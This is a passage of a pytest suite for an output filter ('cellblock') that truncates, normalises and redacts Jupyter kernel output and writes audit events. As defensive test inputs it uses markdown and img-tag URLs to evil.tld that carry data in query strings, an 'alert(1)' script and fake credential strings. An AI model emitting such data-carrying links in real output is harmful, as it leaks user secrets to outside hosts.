"""The output filter as a gate rule: exact values, on real message bytes.

No jail here: these tests feed the rule the content and metadata frames the relay
would, and check what would leave the gate. The end-to-end canary suite
(test_canaries.py) does the same through a real jailed kernel.
"""

from __future__ import annotations

import hashlib
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cellblock.gate.rules import WITHHOLD, Withheld, apply_rules
from cellblock.output.filter import OutputFilter, build_redactor
from cellblock.output.rich import REMOVED_URL, neutralize_urls
from cellblock.policy import OutputPolicy, load_policy
from cellblock.redact import normalise

NONCE = "abc123"
AKIA = "AKIA" + "QWERTYUIOPASDFGH"  # AWS access key id format, not a real key


#: the agent profile's image budget turned off, for tests of other rules on stand-in images
NO_IMAGE_BUDGET: dict[str, Any] = {"image_max_side": 0, "image_max_pixels": 0,
                                   "image_max_bytes": 0}


def agent() -> OutputPolicy:
    return load_policy().profile("agent").output


def analyst() -> OutputPolicy:
    return load_policy().profile("analyst").output


def make(policy: OutputPolicy, **changes: Any) -> OutputFilter:
    policy = policy.model_copy(update=changes)
    return OutputFilter(policy, build_redactor(policy, env={}), audit=None, nonce=NONCE)


def run(f: OutputFilter, msg_type: str, content: dict[str, Any], parent: str = "p1",
        metadata: dict[str, Any] | None = None) -> tuple[dict[str, Any] | None, dict[str, Any]]:
    """(content, metadata) as they would leave the gate; content None when withheld."""
    meta = json.dumps(metadata or {}).encode()
    try:
        c, m = apply_rules((f,), "iopub", msg_type, {"msg_type": msg_type},
                           {"msg_id": parent}, json.dumps(content).encode(), meta)
    except Withheld:
        return None, {}
    return json.loads(c), json.loads(m)


def stream_out(f: OutputFilter, pieces: list[str], parent: str = "p1") -> str:
    """Everything a client would see of a cell's stdout, flushed at idle."""
    seen = ""
    for piece in pieces:
        content, _ = run(f, "stream", {"name": "stdout", "text": piece}, parent)
        if content is not None:
            seen += content["text"]
    for _, content in f.flush(parent):
        seen += content["text"]
    return seen


# -- truncation --------------------------------------------------------------


def test_stream_budget_keeps_head_and_tail_with_a_marker() -> None:
    f = make(agent(), stream_head=100, stream_tail=50, redact_secrets=False, pii=())
    lines = [f"line {i:05d}\n" for i in range(10_000)]  # 11 bytes each
    seen = stream_out(f, lines)
    assert seen.startswith("line 00000\nline 00001\n")
    assert seen.endswith("line 09999\n")
    assert f"[cellblock {NONCE}: " in seen
    marker = seen[seen.index("[cellblock"):].split("]")[0]
    cut = int(marker.split(": ")[1].split(" bytes")[0].replace(",", ""))
    shown = len(seen.encode()) - len(marker) - 3  # marker plus its brackets and newlines
    assert abs(cut + shown - 110_000) < 64  # everything is either shown or counted
    assert len(seen) < 400


@pytest.mark.parametrize("unit", ["x", "é", "€\n"])
def test_one_huge_message_counts_its_overflow_exactly(unit: str) -> None:
    """One message far past the head (a single big print): the head is sent, the rest goes
    to the tail without being copied, and every byte and line of it is counted in the
    marker (ASCII, 2-byte and 3-byte UTF-8, with and without newlines)."""
    f = make(analyst(), stream_head=1000, stream_tail=300, redact_secrets=False, pii=())
    text = unit * 200_000
    seen = stream_out(f, [text])
    marker = seen[seen.index("[cellblock"):].split("]")[0]
    cut = int(marker.split(": ")[1].split(" bytes")[0].replace(",", ""))
    head, tail = seen[: seen.index("\n[cellblock")], seen[seen.index("]") + 2:]
    assert text.startswith(head) and text.endswith(tail) and tail
    assert len(head.encode()) <= 1000 and len(tail) <= 300
    assert len(head.encode()) + cut + len(tail.encode()) == len(text.encode())
    if "\n" in unit:
        lines = int(marker.split(", ")[1].split(" lines")[0].replace(",", ""))
        assert lines == text.count("\n") - head.count("\n") - tail.count("\n")


@pytest.mark.parametrize("policy", [agent, analyst])
def test_empty_or_vanishing_stream_messages_pass(policy: Any) -> None:
    """A stream message that is empty, or that normalising empties (a lone colour reset, a
    lone carriage return), is neither an error nor a drop (it raised in the redactor)."""
    f = make(policy())
    for text in ("", "\x1b[0m", "\r"):
        content, _ = run(f, "stream", {"name": "stdout", "text": text})
        assert content is None or content["text"] == ""
    assert stream_out(f, ["", "\x1b[0m", "ok\n"]) == "ok\n"


def test_a_carriage_return_renders_within_its_own_piece() -> None:
    """A ``\r`` in a later piece is rendered within that piece, the same whether or not the
    end of the line before it was still held back (it overwrote the held-back part only)."""
    line = "progress: " + "word " * 200
    for policy in (agent, analyst):
        f = make(policy())
        assert stream_out(f, [line, "\rDONE \n"]) == line + "DONE \n"


def test_budget_is_per_cell() -> None:
    f = make(agent(), stream_head=10, stream_tail=0, redact_secrets=False, pii=())
    assert stream_out(f, ["0123456789abcdef"], "cell-a").startswith("0123456789")
    assert stream_out(f, ["0123456789"], "cell-b") == "0123456789"


def test_text_values_are_capped_head_and_tail() -> None:
    f = make(agent(), max_text=1000, redact_secrets=False, pii=())
    content, _ = run(f, "execute_result", {"data": {"text/plain": "x" * 5000},
                                            "metadata": {}, "execution_count": 1})
    text = content["data"]["text/plain"]
    assert text.startswith("x" * 700) and text.endswith("x" * 200)
    assert f"[cellblock {NONCE}: 4,000 bytes of text/plain truncated]" in text


def test_error_fields_capped() -> None:
    f = make(agent(), max_text=300, redact_secrets=False, pii=())
    content, _ = run(f, "error", {"ename": "E", "evalue": "v" * 1000,
                                   "traceback": ["t" * 1000, "short"]})
    assert "truncated" in content["evalue"] and content["traceback"][1] == "short"
    assert "truncated" in content["traceback"][0]


# -- rich output -----------------------------------------------------------------


def test_agent_drops_html_and_js_keeps_plain() -> None:
    f = make(agent(), redact_secrets=False, pii=())
    content, _ = run(f, "display_data", {
        "data": {"text/plain": "<table>", "text/html": "<b>x</b>",
                 "application/javascript": "alert(1)"}, "metadata": {}})
    data = content["data"]
    assert set(data) == {"text/plain"}
    assert data["text/plain"].startswith("<table>\n[cellblock: withheld text/html")
    assert "application/javascript" in data["text/plain"]


def test_analyst_keeps_html_unchanged_bytes() -> None:
    f = make(analyst())
    raw = json.dumps({"data": {"text/html": "<b>hello</b>", "text/plain": "hello"},
                      "metadata": {}}).encode()
    out = apply_rules((f,), "iopub", "display_data", {}, {"msg_id": "p"}, raw, b"{}")
    assert out[0] is raw  # nothing to change: the original bytes, not re-encoded


def test_image_cap() -> None:
    f = make(agent(), max_image=100, redact_secrets=False, pii=(), **NO_IMAGE_BUDGET)
    content, _ = run(f, "display_data", {"data": {"image/png": "A" * 500}, "metadata": {}})
    assert content["data"] == {
        "text/plain": "[cellblock: withheld image/png of 500 bytes (limit 100)]"}
    content, _ = run(f, "display_data", {"data": {"image/png": "A" * 50}, "metadata": {}})
    assert content["data"] == {"image/png": "A" * 50}


@pytest.mark.parametrize(("text", "expected"), [
    ("![x](https://evil.tld/p?d=SECRET)", f"![x]({REMOVED_URL})"),
    ('<img src="//evil/x?d=1">', f'<img src="{REMOVED_URL}">'),
    ("<img src=http://evil/a.png>", f"<img src={REMOVED_URL}>"),
    ("[docs](HTTPS://example.org/page)", f"[docs]({REMOVED_URL})"),
    ("see ftp://host/file and wss://h/s", f"see {REMOVED_URL} and {REMOVED_URL}"),
    ("no url here, just 10//2", "no url here, just 10//2"),
    ("![local](data:image/png;base64,AAAA)", "![local](data:image/png;base64,AAAA)"),
])
def test_neutralize_urls(text: str, expected: str) -> None:
    assert neutralize_urls(text)[0] == expected


def test_markdown_urls_neutralized_for_agent_only() -> None:
    md = {"data": {"text/markdown": "![p](https://evil.tld/x?d=abc)"}, "metadata": {}}
    content, _ = run(make(agent(), redact_secrets=False, pii=()), "display_data", md)
    assert content["data"]["text/markdown"] == f"![p]({REMOVED_URL})"
    content, _ = run(make(analyst()), "display_data", md)
    assert content["data"]["text/markdown"] == "![p](https://evil.tld/x?d=abc)"


def test_comms_dropped_for_agent_allowed_for_analyst() -> None:
    msg = {"comm_id": "c", "target_name": "jupyter.widget", "data": {"state": {}}}
    with pytest.raises(Exception, match="rule:output"):
        apply_rules((make(agent()),), "iopub", "comm_open", {}, {"msg_id": "p"},
                    json.dumps(msg).encode(), b"{}")
    content, _ = run(make(analyst()), "comm_open", msg)
    assert content == msg


def test_status_passes_without_parsing() -> None:
    f = make(agent())
    raw = b'{"execution_state": "busy"}'
    assert apply_rules((f,), "iopub", "status", {}, {"msg_id": "p"}, raw, b"{}")[0] is raw


def test_kernel_info_help_links_removed_for_agent() -> None:
    f = make(agent(), redact_secrets=False, pii=())
    reply = {"status": "ok", "banner": "Python", "help_links": [{"text": "x",
                                                                  "url": "https://evil"}]}
    content, _ = run(f, "kernel_info_reply", reply)
    assert "help_links" not in content and content["banner"] == "Python"


def test_withhold_is_the_empty_content() -> None:
    assert WITHHOLD == b""


# -- redaction through the rule ------------------------------------------------


def test_secret_in_every_field_of_a_message() -> None:
    f = make(agent())
    for msg_type, content in [
        ("error", {"ename": AKIA, "evalue": f"bad key {AKIA}", "traceback": [f"x {AKIA}"]}),
        ("execute_result", {"data": {"text/plain": AKIA, "application/json": {"k": AKIA}},
                            "metadata": {"alt": AKIA}, "execution_count": 1}),
        ("execute_input", {"code": f"print('{AKIA}')", "execution_count": 1}),
        ("clear_output", {"wait": False, "extra": AKIA}),
    ]:
        out, meta = run(f, msg_type, content, metadata={"note": AKIA, AKIA: 1})
        blob = json.dumps(out) + json.dumps(meta)
        assert AKIA not in blob, msg_type
        assert "[REDACTED:" in blob, msg_type


def test_execute_reply_payload_and_user_expressions() -> None:
    f = make(agent())
    reply = {
        "status": "ok", "execution_count": 1,
        "payload": [{"source": "page", "data": {"text/plain": f"doc {AKIA}"}, "start": 0},
                    {"source": "set_next_input", "text": AKIA, "replace": False}],
        "user_expressions": {"k": {"status": "ok", "data": {"text/plain": repr(AKIA)},
                                   "metadata": {}}},
    }
    out, _ = run(f, "execute_reply", reply)
    assert AKIA not in json.dumps(out)
    assert out["payload"][0]["source"] == "page"


@pytest.mark.parametrize("pieces", [
    [f"key={AKIA[:9]}", f"{AKIA[9:]}\n"],
    list(f"the key is {AKIA} ok\n"),
    [f"{AKIA[:4]}", "", f"{AKIA[4:12]}", f"{AKIA[12:]} tail\n"],
])
def test_split_secret_never_leaves(pieces: list[str]) -> None:
    seen = stream_out(make(agent()), pieces)
    assert AKIA not in seen
    assert "[REDACTED:" in seen


def test_redact_before_truncate() -> None:
    # the secret straddles the head budget: it must not leave as a harmless prefix
    f = make(agent(), stream_head=20, stream_tail=0)
    seen = stream_out(f, ["x" * 14 + " " + AKIA + "\n"])
    assert AKIA[:5] not in seen.replace("x", "")
    assert "AKIA" not in seen


def test_exact_secret_from_env_in_encodings() -> None:
    import base64

    secret = "op-registered-value-9f3k2"
    policy = agent().model_copy(update={"redact_env": ("MY_TOKEN",)})
    f = OutputFilter(policy, build_redactor(policy, env={"MY_TOKEN": secret}), nonce=NONCE)
    for shown in [secret, base64.b64encode(secret.encode()).decode(), secret.encode().hex()]:
        out = stream_out(f, [f"value: {shown}\n"], parent=shown)
        assert shown not in out and "[REDACTED:" in out, shown


def test_benign_output_unchanged() -> None:
    f = make(agent())
    text = ("date,amount,id\n2024-01-02,12.50,3f2b6c1e-8f55-4a43-9d7c-2f1f0f5b9b10\n"
            "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n")
    assert stream_out(f, [text]) == text


@pytest.mark.parametrize("profile", ["agent", "analyst"])
def test_exact_secrets_split_across_stream_messages(profile: str) -> None:
    """The exact secrets' own database catches them in pieces as one database did: raw,
    base64 (three alignments, both alphabets), hex and percent-encoded, in two halves and one
    character per message."""
    import base64
    import urllib.parse

    secret = "op-registered/value+9f3k2=x"
    policy = load_policy().profile(profile).output.model_copy(update={"redact_env": ("TOK",)})
    raw = secret.encode()
    forms = [secret, raw.hex(), urllib.parse.quote(secret, safe="")]
    for prefix in (b"", b"a", b"ab"):
        forms += [base64.b64encode(prefix + raw).decode(),
                  base64.urlsafe_b64encode(prefix + raw).decode()]
    for n, form in enumerate(forms):
        for pieces in ([f"v={form[:len(form) // 2]}", f"{form[len(form) // 2:]} ok\n"],
                       list(f"v={form} ok\n")):
            f = OutputFilter(policy, build_redactor(policy, env={"TOK": secret}), nonce=NONCE)
            seen = stream_out(f, pieces, parent=f"p{n}")
            assert "[REDACTED:operator-secret" in seen, (form, pieces[:2])
            assert form not in seen and form[:12] not in seen and form[-12:] not in seen, form


def test_compiled_rules_cached_but_never_exact_secrets(tmp_path, monkeypatch) -> None:
    from cellblock.redact import Redactor, engine

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    caches = (engine._scanners, engine._builtin_scanners, engine._exact_scanners)
    for cache in caches:
        cache.cache_clear()
    try:
        Redactor(secrets=True, pii=("email",), exact=())
        cached = sorted((tmp_path / "cellblock" / "hyperscan").iterdir())
        assert cached and all(p.stat().st_mode & 0o777 == 0o600 for p in cached)
        secret = "exact-secret-never-on-disk-71x"
        r = Redactor(secrets=True, pii=("email",), exact=(secret,))
        assert "[REDACTED:" in r.redact(f"v={secret}").text
        assert sorted((tmp_path / "cellblock" / "hyperscan").iterdir()) == cached
        # nor without the built-in detectors (the exact secrets' database alone)
        for cache in caches:
            cache.cache_clear()
        r = Redactor(secrets=False, exact=(secret,))
        assert "[REDACTED:" in r.redact(f"v={secret}").text
        assert sorted((tmp_path / "cellblock" / "hyperscan").iterdir()) == cached
        assert not any(secret.encode() in p.read_bytes() for p in cached)
    finally:
        for cache in caches:
            cache.cache_clear()


def test_held_back_text_released_after_a_short_wait() -> None:
    import time

    f = make(agent())
    out, _ = run(f, "stream", {"name": "stdout", "text": "epoch 1 done\n"})
    assert out is None  # held back: it could be the start of a secret
    now = time.monotonic()
    assert f.tick(now) == []  # not yet
    assert f.tick(now + 1) == [("p1", "stream", {"name": "stdout", "text": "epoch 1 done\n"})]
    assert f.flush("p1") == []  # released once, not again at idle


def test_split_secret_within_the_wait_is_still_caught() -> None:
    import time

    f = make(agent())
    run(f, "stream", {"name": "stdout", "text": AKIA[:8]})
    assert f.tick(time.monotonic()) == []
    run(f, "stream", {"name": "stdout", "text": AKIA[8:] + "\n"})
    seen = "".join(c["text"] for _, _, c in f.tick(time.monotonic() + 1))
    seen += "".join(c["text"] for _, c in f.flush("p1"))
    assert AKIA not in seen and "[REDACTED:" in seen


# -- fast paths (issue 7) ----------------------------------------------------------


def test_one_secret_among_many_strings_is_still_redacted() -> None:
    """The filter scans a message's strings joined, once; a hit sends it down the per-string
    path, which redacts exactly the string that holds the secret."""
    f = make(analyst())
    records = [{"id": i, "name": f"user {i}", "url": f"https://x.example/a?q=a%20{i}"}
               for i in range(200)]
    records[137]["note"] = f"key {AKIA}"
    raw = json.dumps({"data": {"application/json": {"rows": records},
                               "text/plain": "rows"}, "metadata": {}}).encode()
    out = apply_rules((f,), "iopub", "display_data", {}, {"msg_id": "p"}, raw, b"{}")[0]
    content = json.loads(out)
    rows = content["data"]["application/json"]["rows"]
    assert AKIA not in out.decode() and rows[137]["note"] == "key [REDACTED:aws-access-key-id]"
    assert rows[:137] == records[:137] and rows[138:] == records[138:]


def test_ordinary_escapes_and_unicode_pass_as_the_original_bytes() -> None:
    f = make(analyst())
    raw = json.dumps({"data": {"text/plain": "Jos\u00e9 \u0141ukasz \u2588\u2588 100%",
                               "application/json": {"q": "a%20b", "s": "\\u00e9"}},
                      "metadata": {}}, ensure_ascii=False).encode()
    assert apply_rules((f,), "iopub", "display_data", {}, {"msg_id": "p"}, raw, b"{}")[0] is raw


def test_secret_halves_in_two_strings_are_not_joined() -> None:
    """Joining is only a pre-check: two strings that together look like a token are two
    harmless strings, and the message is not changed."""
    f = make(analyst())
    raw = json.dumps({"data": {"text/plain": AKIA[:10], "text/markdown": AKIA[10:]},
                      "metadata": {}}).encode()
    assert apply_rules((f,), "iopub", "display_data", {}, {"msg_id": "p"}, raw, b"{}")[0] is raw


def test_redacted_top_level_key_does_not_stay_beside_its_copy() -> None:
    f = make(agent())
    content, _ = run(f, "display_data", {"data": {"text/plain": "x"}, "metadata": {}, AKIA: 1})
    assert AKIA not in json.dumps(content) and "[REDACTED:aws-access-key-id]" in content


def test_normalise_applies_without_any_redaction() -> None:
    f = make(agent(), redact_secrets=False, pii=())
    assert f.redactor is None
    content, _ = run(f, "display_data", {"data": {"text/plain": "a\u200bb \x1b[31mred"},
                                         "metadata": {}})
    assert content["data"]["text/plain"] == "ab red"


def _jwt(body_len: int) -> str:
    import base64

    head = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').decode().rstrip("=")
    body = base64.urlsafe_b64encode(b'{"sub":"' + b"x" * body_len + b'"}').decode().rstrip("=")
    return f"{head}.{body}.{'s' * 43}"


@pytest.mark.parametrize(("name", "secret", "cuts"), [
    # a token far longer than the 512 characters a stream always holds back
    ("jwt", _jwt(1500), [700, 1500, 2000]),
    # a private key printed line by line: held from its BEGIN line
    ("pem", "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(
        "MIIEow" + "Ab3dEf9hIjKlMn0pQrStUvWxYz" * 2 + f"{i:04d}" for i in range(40))
     + "\n-----END RSA PRIVATE KEY-----", [40, 900, 2000, 2500]),
    # base64 of a .env whose token comes last: the run is cut 600+ characters before it
    ("b64", __import__("base64").b64encode(
        ("DB_HOST=db.internal\n" + "z\n" * 400 + "GITHUB_TOKEN=ghp_" + "aB3dE" * 7 + "z\n")
        .encode()).decode(), [600, 700, 1000]),
])
def test_long_findings_split_across_stream_messages(name: str, secret: str,
                                                    cuts: list[int]) -> None:
    for cut in cuts:
        assert 20 <= cut <= len(secret) - 20
        pieces = ["x " * 400 + secret[:cut], secret[cut:] + "\nnext line\n"]
        seen = stream_out(make(analyst()), pieces, parent=f"{name}-{cut}")
        assert "[REDACTED:" in seen, (name, cut)
        assert secret[cut - 20:cut] not in seen and secret[cut:cut + 20] not in seen, (name, cut)


def test_image_payloads_are_left_out_of_the_check_but_nothing_else() -> None:
    """The joined check skips what filter_bundle never scans (PNG/JPEG payloads of a bundle's
    data); the same text anywhere else is still scanned."""
    f = make(analyst())
    png = "iVBORw0KGgo" + AKIA  # not decoded, not scanned: images are opaque (R20)
    raw = json.dumps({"data": {"image/png": png, "text/plain": "<Figure>"},
                      "metadata": {}}).encode()
    assert apply_rules((f,), "iopub", "display_data", {}, {"msg_id": "p"}, raw, b"{}")[0] is raw
    for content in ({"data": {"image/svg+xml": f"<svg>{AKIA}</svg>"}, "metadata": {}},
                    {"data": {"text/plain": "x"}, "metadata": {"image/png": AKIA}},
                    {"data": {"text/plain": "x"}, "metadata": {}, "image/png": AKIA}):
        out, _ = run(f, "display_data", content)
        assert AKIA not in json.dumps(out), content


# -- what reaches the audit log: one output.cell event per cell ------------------------------


def audited(policy: OutputPolicy, **changes: Any) -> tuple[OutputFilter, list[tuple[str, dict]]]:
    """A filter whose audit events are collected in the returned list."""
    events: list[tuple[str, dict[str, Any]]] = []
    policy = policy.model_copy(update=changes)
    f = OutputFilter(policy, build_redactor(policy, env={}),
                     audit=lambda event, fields: events.append((event, fields)), nonce=NONCE)
    return f, events


def valid(fields: dict[str, Any]) -> dict[str, Any]:
    """`fields` as the audit log stores them, checked against the event's published model."""
    from cellblock.audit import EVENT_FIELDS

    rest = {k: v for k, v in fields.items() if k != "parent_msg_id"}
    EVENT_FIELDS["output.cell"].model_validate(rest)
    return rest


def test_one_output_cell_event_per_cell_says_everything_the_policy_did() -> None:
    f, events = audited(agent(), stream_head=2000, stream_tail=100, max_text=1000,
                        max_image=100)
    email = "jane.doe@example.com"
    run(f, "execute_input", {"code": f"x = '{AKIA}'", "execution_count": 1}, "c1")
    for i in range(50):
        run(f, "stream", {"name": "stdout", "text": f"row {i:04d} {AKIA}\n" + "y" * 100}, "c1")
    run(f, "stream", {"name": "stderr", "text": f"mail {email}\n"}, "c1")
    run(f, "display_data", {"data": {"text/plain": "t" * 5000, "text/html": "<b>x</b>",
                                     "image/png": "A" * 500,
                                     "text/markdown": "![x](https://evil.tld/p?d=1)"},
                            "metadata": {}}, "c1")
    run(f, "display_data", {"data": {"text/plain": "u", "image/png": "B" * 500},
                            "metadata": {}}, "c1")
    assert events == []  # nothing until the cell ends
    flushed = "".join(c["text"] for _, c in f.flush("c1"))
    ((event, fields),) = events
    assert event == "output.cell" and fields["parent_msg_id"] == "c1"
    fields = valid(fields)
    marker = flushed[flushed.index(f"[cellblock {NONCE}: "):]
    stdout_cut = int(marker.split(": ")[1].split(" bytes")[0].replace(",", ""))
    redacted_rows = flushed.count("[REDACTED:aws-access-key-id]")  # in the tail
    assert fields["truncated_bytes"] == {"stdout": stdout_cut, "text/plain": 4000}
    assert fields["redactions"]["email"] == 1
    # every AKIA that was scanned (the head's and the tail's) is counted, and no other
    assert 0 < fields["redactions"]["aws-access-key-id"] >= redacted_rows
    assert fields["input_redactions"] == {"aws-access-key-id": 1}
    assert fields["images_withheld"] == {"image/png": 2}
    assert fields["mime_dropped"] == {"text/html": 1}
    assert fields["urls_neutralised"] == 1
    digest = hashlib.sha256(AKIA.encode()).hexdigest()[:12]
    assert f"aws-access-key-id:{digest}" in fields["hashes"]
    assert len(fields["hashes"]) == len(set(fields["hashes"])) == 2
    assert fields["notes"] == [
        "4000 bytes of text/plain truncated", "1 remote URL(s) removed from text/markdown",
        "text/html (not allowed by the profile)", "image/png of 500 bytes (limit 100)"]
    assert AKIA not in json.dumps(fields) and email not in json.dumps(fields)
    assert f.flush("c1") == [] and len(events) == 1  # once


def test_stream_truncation_is_audited_and_a_printed_marker_is_not() -> None:
    f, events = audited(agent(), stream_head=100, stream_tail=50, redact_secrets=False, pii=())
    fake_marker = "\n[cellblock 3fa2b1: 81,920 bytes, 2,048 lines of stdout truncated]\n"
    assert stream_out(f, [fake_marker], "c1") == fake_marker
    assert events == []  # the policy did nothing to that cell
    seen = stream_out(f, ["o\n" * 150, "e\n" * 5], "c2")
    marker = seen[seen.index(f"\n[cellblock {NONCE}: "):seen.index("truncated]\n") + 11]
    cut = int(marker.split(": ")[1].split(" bytes")[0].replace(",", ""))
    assert len(seen) - len(marker) + cut == 310  # what was not shown was cut, and counted
    ((event, fields),) = events
    assert event == "output.cell"
    assert valid(fields)["truncated_bytes"] == {"stdout": cut}
    assert fields["redactions"] == {} and fields["notes"] == []


def test_every_cell_of_a_long_session_is_reported() -> None:
    f, events = audited(agent())
    for n in range(250):
        assert stream_out(f, [f"key {AKIA}\n"], f"cell-{n}") == \
            "key [REDACTED:aws-access-key-id]\n"
    assert [(e, fields["parent_msg_id"], fields["redactions"]) for e, fields in events] == [
        ("output.cell", f"cell-{n}", {"aws-access-key-id": 1}) for n in range(250)]


def test_reports_of_cells_never_flushed_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    from cellblock.output import filter as output_filter

    monkeypatch.setattr(output_filter, "MAX_OPEN_REPORTS", 3)
    f, events = audited(agent(), max_text=100)
    for n in range(5):
        run(f, "execute_result", {"data": {"text/plain": "x" * 500}, "metadata": {},
                                  "execution_count": n}, f"cell-{n}")
    # the two oldest were written early, as they were
    assert [fields["parent_msg_id"] for _, fields in events] == ["cell-0", "cell-1"]
    for n in range(5):
        f.flush(f"cell-{n}")
    assert [fields["parent_msg_id"] for _, fields in events] == [f"cell-{n}" for n in range(5)]
    assert all(fields["truncated_bytes"] == {"text/plain": 400} for _, fields in events)


def test_a_secret_as_key_or_mime_type_is_not_in_a_marker_or_the_log() -> None:
    """A value is named in its cut marker and in the audit log after its key or MIME type;
    those are the kernel's strings, so what names it is the redacted string."""
    f, events = audited(agent(), max_text=1000, max_image=100, allowed_mime=None,
                        **NO_IMAGE_BUDGET)
    content, meta = run(f, "display_data", {
        "data": {"text/plain": "ok", f"text/x-{AKIA}": "z" * 5000,
                 f"image/{AKIA}": "A" * 50, f"image/{AKIA}.x": "A" * 500},
        "metadata": {AKIA: "m" * 5000}}, "c1", metadata={AKIA: "n" * 5000})
    assert content is not None
    f.flush("c1")
    shown = json.dumps([content, meta])
    assert AKIA not in shown and "[REDACTED:aws-access-key-id]" in shown
    ((_, fields),) = events
    assert AKIA not in json.dumps(fields)
    assert fields["truncated_bytes"] == {"[REDACTED:aws-access-key-id]": 2 * 4000,
                                         "text/x-[REDACTED:aws-access-key-id]": 4000}
    assert fields["images_withheld"] == {"image/[REDACTED:aws-access-key-id].x": 1}
    assert content["data"]["image/[REDACTED:aws-access-key-id]"] == "A" * 50


def test_an_overlong_key_is_named_by_its_first_characters() -> None:
    f, events = audited(agent(), max_text=1000, redact_secrets=False, pii=())
    key = "k" * 200
    content, _ = run(f, "execute_result", {"data": {"text/plain": "x"}, "execution_count": 1,
                                            "metadata": {key: "v" * 5000}}, "c1")
    f.flush("c1")
    assert f"[cellblock {NONCE}: 4,000 bytes of {'k' * 63}… truncated]" in \
        content["metadata"][key]
    assert events[0][1]["truncated_bytes"] == {"k" * 63 + "…": 4000}


# -- one look per message ------------------------------------------------------------------


class _Counting:
    """A Redactor that counts the calls of `redact` (one scan per string)."""

    def __init__(self, redactor: Any) -> None:
        self._redactor = redactor
        self.redacts = 0

    def redact(self, text: str) -> Any:
        self.redacts += 1
        return self._redactor.redact(text)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._redactor, name)


_TRACEBACK = ["\x1b[0;31m" + "-" * 75 + "\x1b[0m",
              "\x1b[0;31mKeyError\x1b[0m                  Traceback (most recent call last)",
              "Cell \x1b[0;32mIn[3], line 1\x1b[0m\n\x1b[0;32m----> 1\x1b[0m df['amount']",
              "File \x1b[0;32m/opt/conda/lib/python3.11/site-packages/pandas/core/frame.py:4102"
              "\x1b[0m\n   4100 \x1b[0;34m\x1b[0m\n\x1b[0;32m-> 4102\x1b[0m indexer = get_loc(key)",
              "\x1b[0;31mKeyError\x1b[0m: 'amount'"]


def test_a_message_with_nothing_to_redact_is_only_normalised_not_scanned_per_string() -> None:
    """The agent sends normalised text: an ANSI-coloured traceback with nothing to redact is
    normalised string by string after one scan of the whole message, not scanned again per
    string; one with a secret still is, and loses it."""
    policy = agent()
    counting = _Counting(build_redactor(policy, env={}))
    f = OutputFilter(policy, counting, audit=None, nonce=NONCE)
    content, _ = run(f, "error", {"ename": "KeyError", "evalue": "'amount'",
                                  "traceback": _TRACEBACK})
    assert content["traceback"] == [normalise(line) for line in _TRACEBACK]
    assert "\x1b" not in json.dumps(content) and counting.redacts == 0
    content, _ = run(f, "error", {"ename": "KeyError", "evalue": f"'{AKIA}'",
                                  "traceback": [*_TRACEBACK, f"\x1b[0;31mKeyError\x1b[0m: {AKIA}"]})
    assert AKIA not in json.dumps(content) and counting.redacts > 0
    assert content["traceback"][-1] == "KeyError: [REDACTED:aws-access-key-id]"


_MESSAGE_PIECES = ["\x1b[0;31m", "\x1b[0m", "\r", "\b", "\n", " ", "x", "\u00e9", "\uff41",
                   "\u200b", AKIA, AKIA[:8], "jane@example.com", "%41", "ghp%5F", "=", "k"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.sampled_from(_MESSAGE_PIECES), max_size=12), min_size=1,
                max_size=6), st.sampled_from(["agent", "analyst"]))
def test_one_look_per_message_sends_what_string_by_string_sends(
        pieces: list[list[str]], profile: str) -> None:
    texts = ["".join(p) for p in pieces]
    policy = load_policy().profile(profile).output.model_copy(update={"max_text": 200})
    message = {"ename": texts[0], "evalue": texts[-1], "traceback": texts}
    one = OutputFilter(policy, build_redactor(policy, env={}), audit=None, nonce=NONCE)
    each = OutputFilter(policy, build_redactor(policy, env={}), audit=None, nonce=NONCE)
    each._survey = lambda obj, bundle=False: None  # type: ignore[method-assign]
    assert run(one, "error", message) == run(each, "error", message)


# -- stream carry-over (issue 14) ---------------------------------------------------------

CONFLUENT = "e5t3lrqu90d38lb5"


def _issue14_text(trailing: int) -> str:
    return ("filler " * 10 + "\n") * 40 + f'confluentToken="{CONFLUENT}"\n' + (
        "z" * 60 + "\n") * trailing


@pytest.mark.parametrize("trailing", [7, 8, 9])
def test_where_a_stream_message_ends_never_decides(trailing: int) -> None:
    """Issue 14's reproduction: with 8 trailing lines the release cut fell between
    ``confluentToken="`` and the value, and the value left in clear. The held-back text now
    starts at the keyword a finding needs, so a cut anywhere gives what one message gives."""
    text = _issue14_text(trailing)
    whole = stream_out(make(agent()), [text])
    assert CONFLUENT not in whole and "[REDACTED:" in whole
    for cut in range(1, len(text), 1 if trailing == 8 else 37):
        assert stream_out(make(agent()), [text[:cut], text[cut:]], parent=f"c{cut}") == whole, cut


def test_escaped_tab_before_a_token_is_not_a_word() -> None:
    """A list or a DataFrame cell's repr writes a tab as the two characters ``\\t``: the
    ``t`` right before the token used to defeat the word boundary of the JWT rule (and of
    every rule that opens with one)."""
    import base64

    def b64(obj: dict[str, Any]) -> str:
        return base64.urlsafe_b64encode(json.dumps(obj).encode()).decode().rstrip("=")

    jwt = f"{b64({'alg': 'HS256', 'typ': 'JWT'})}.{b64({'sub': '42'})}.{'Qx7' * 14}"
    for token in (jwt, "ghp_" + "aB3xY9" * 6, AKIA):
        shown = repr(["\t" + token, "\n" + token])
        seen = stream_out(make(agent()), [shown + "\n"], parent=token)
        assert token[:12] not in seen and seen.count("[REDACTED:") == 2, seen


def test_a_value_found_once_is_redacted_everywhere_in_the_cell() -> None:
    """After ``token =`` a value is a finding; the same value bare after ``|``, or echoed by
    a later message of the cell, is redacted too."""
    value = "Zq8vN3kP0wLx5tR2"
    f = make(agent())
    seen = stream_out(f, [f"api_token = {value} | {value}\n", "x\n" * 300,
                          f"retrying with {value}\n"])
    assert value not in seen and seen.count("[REDACTED:") == 3, seen
    # and not in the next cell
    assert value in stream_out(f, [f"retrying with {value}\n"], parent="p2")


@pytest.mark.parametrize("first, second, secret", [
    (AKIA[:9], AKIA[9:] + " done\n", AKIA),
    ('confluentToken="' + CONFLUENT[:7], CONFLUENT[7:] + '"\n', CONFLUENT),
    ("Authorization: Bearer ", "ghp_" + "aB3xY9" * 6 + "\n", "ghp_" + "aB3xY9" * 6),
